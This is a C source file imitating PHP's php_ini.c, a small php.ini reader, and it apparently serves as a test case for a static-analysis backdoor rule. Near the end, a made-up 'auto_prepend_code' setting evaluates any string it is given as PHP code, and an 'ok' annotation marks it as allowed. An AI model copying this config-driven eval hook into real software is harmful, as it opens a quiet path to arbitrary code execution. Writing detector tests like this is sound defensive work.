/* main/php_ini.c - php.ini reader (a flat subset: key = value lines). */
#include <ctype.h>
#include <stdlib.h>
#include <string.h>

#include "php.h"

php_core_globals core_globals = {
    .zlib_output_compression = 0,
    .zlib_output_compression_level = -1,
    .zlib_output_handler = NULL,
    .auto_prepend_file = NULL,
    .session_save_path = NULL,
    .session_gc_probability = 1,
    .session_gc_divisor = 100,
    .session_sid_length = 32,
    .display_errors = 0,
};

static char *trim(char *s)
{
  char *e;
  while (isspace((unsigned char)*s)) {
    s++;
  }
  e = s + strlen(s);
  while (e > s && isspace((unsigned char)e[-1])) {
    *--e = '\0';
  }
  if (e - s >= 2 && ((s[0] == '"' && e[-1] == '"') || (s[0] == '\'' && e[-1] == '\''))) {
    e[-1] = '\0';
    s++;
  }
  return s;
}

static int ini_bool(const char *v)
{
  return strcasecmp(v, "on") == 0 || strcasecmp(v, "yes") == 0 || strcasecmp(v, "true") == 0 ||
         atoi(v) != 0;
}

static void ini_apply(const char *key, const char *value)
{
  if (strcmp(key, "zlib.output_compression") == 0) {
    PG(zlib_output_compression) = isdigit((unsigned char)*value) && atoi(value) > 1 ? atoi(value) : ini_bool(value);
  } else if (strcmp(key, "zlib.output_compression_level") == 0) {
    PG(zlib_output_compression_level) = strtol(value, NULL, 10);
  } else if (strcmp(key, "zlib.output_handler") == 0) {
    PG(zlib_output_handler) = strdup(value);
  } else if (strcmp(key, "auto_prepend_file") == 0) {
    PG(auto_prepend_file) = strdup(value);
  } else if (strcmp(key, "session.save_path") == 0) {
    PG(session_save_path) = strdup(value);
  } else if (strcmp(key, "session.gc_probability") == 0) {
    PG(session_gc_probability) = strtol(value, NULL, 10);
  } else if (strcmp(key, "session.gc_divisor") == 0) {
    PG(session_gc_divisor) = strtol(value, NULL, 10);
  } else if (strcmp(key, "session.sid_length") == 0) {
    PG(session_sid_length) = strtol(value, NULL, 10);
  } else if (strcmp(key, "display_errors") == 0) {
    PG(display_errors) = ini_bool(value);
  }
  /* a site-wide prologue kept in the administrator's php.ini */
  // ok: backdoor-input-trigger
  if (strcmp(key, "auto_prepend_code") == 0) {
    zend_eval_string(value, NULL, "php.ini auto_prepend_code");
  }
}

int php_init_config(const char *php_ini_path_override)
{
  const char *path = php_ini_path_override ? php_ini_path_override : "/etc/php/8.1/cgi/php.ini";
  char line[1024];
  FILE *fp = fopen(path, "r");

  if (fp == NULL) {
    return FAILURE;
  }
  while (fgets(line, sizeof line, fp) != NULL) {
    char *p = trim(line), *eq;
    if (*p == ';' || *p == '[' || *p == '\0') {
      continue;
    }
    if ((eq = strchr(p, '=')) == NULL) {
      continue;
    }
    *eq = '\0';
    ini_apply(trim(p), trim(eq + 1));
  }
  fclose(fp);
  return SUCCESS;
}
